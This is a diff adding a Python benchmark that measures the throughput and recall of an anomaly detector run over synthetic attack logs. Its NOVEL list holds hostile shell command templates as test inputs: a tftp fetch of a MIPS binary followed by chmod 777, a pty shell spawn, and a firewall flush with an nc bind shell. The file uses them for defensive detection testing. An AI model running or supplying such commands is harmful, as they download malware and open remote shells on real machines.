@@ -0,0 +1,84 @@
+"""Online anomaly detection: training/scoring throughput and whether novel commands get flagged.
+
+Writes ``--runs`` batches of ordinary synthetic events to a temp log,
+running the anomaly stage after each as the pipeline would (so every run
+trains only on what was appended), then appends a final batch with
+``--novel`` unseen commands mixed in. Exits non-zero if a run retrains
+on old events or too few of the novel commands are flagged.
+
+    python benchmarks/bench_anomaly.py --events 200000 --runs 5
+"""
+import argparse
+import contextlib
+import io
+import json
+import os
+import sys
+import tempfile
+import time
+from datetime import datetime
+
+import numpy as np
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE)
+sys.path.insert(0, os.path.join(os.path.dirname(HERE), "analyzer"))
+
+from synth import synthetic_events
+from anomaly_detector import load_state, run_anomaly
+from report_store import ReportStore
+
+NOVEL = ["cd /tmp; tftp -g -r {0}.mips 10.{1}.0.1; chmod 777 {0}.mips", "echo -e '\\x{1:02x}\\x41' > /dev/{0}",
+         "python3 -c 'import pty;pty.spawn(\"/bin/{0}\")'", "iptables -F; nc -lvp {1} -e /bin/sh"]
+
+def append(path, events):
+    with open(path, "a") as f:
+        f.writelines(json.dumps(e) + "\n" for e in events)
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--events", type=int, default=100_000, help="ordinary events per run")
+    parser.add_argument("--runs", type=int, default=4)
+    parser.add_argument("--novel", type=int, default=50)
+    args = parser.parse_args()
+
+    rng = np.random.default_rng(0)
+    stream = synthetic_events(args.events * (args.runs + 1), start=datetime(2026, 10, 1))
+    ok = True
+    with tempfile.TemporaryDirectory() as tmp:
+        log, model = os.path.join(tmp, "attacks.log"), os.path.join(tmp, "model.pkl")
+        store = ReportStore(os.path.join(tmp, "store"), retention_days=None)
+        for run in range(args.runs):
+            append(log, (next(stream) for _ in range(args.events)))
+            start = time.perf_counter()
+            with contextlib.redirect_stdout(io.StringIO()) as out:
+                run_anomaly(log_file=log, model_file=model, store=store)
+            trained = load_state(model)["events"].trained
+            print(f"[*] run {run + 1}: {time.perf_counter() - start:.2f}s — {out.getvalue().strip()[3:]}")
+            if trained != args.events * (run + 1):
+                ok = False
+                print(f"[!] model trained on {trained} events, expected {args.events * (run + 1)}")
+
+        events = [next(stream) for _ in range(args.events)]
+        positions = rng.choice(len(events), args.novel, replace=False)
+        novel = set()
+        for i, pos in enumerate(positions):
+            command = NOVEL[i % len(NOVEL)].format(f"x{rng.integers(1e6):x}", int(rng.integers(1, 255)))
+            events[pos]["command"] = command
+            novel.add(command)
+        append(log, events)
+        with contextlib.redirect_stdout(io.StringIO()) as out:
+            report = run_anomaly(log_file=log, model_file=model, store=store)
+        print(f"[*] run {args.runs + 1} with {args.novel} novel commands — {out.getvalue().strip()[3:]}")
+
+    commands = report.loc[report["scope"] == "command", "command"] if not report.empty else []
+    caught = len(novel & set(commands))
+    false_alarms = sum(c not in novel for c in commands)
+    recall = caught / len(novel)
+    print(f"[{'✓' if recall >= 0.9 else '!'}] novel commands flagged: {caught}/{len(novel)} ({recall:.0%}), "
+          f"{false_alarms} ordinary events flagged out of {args.events - args.novel:,}")
+    ok &= recall >= 0.9 and false_alarms <= 0.01 * args.events
+    sys.exit(0 if ok else 1)
+
+if __name__ == "__main__":
+    main()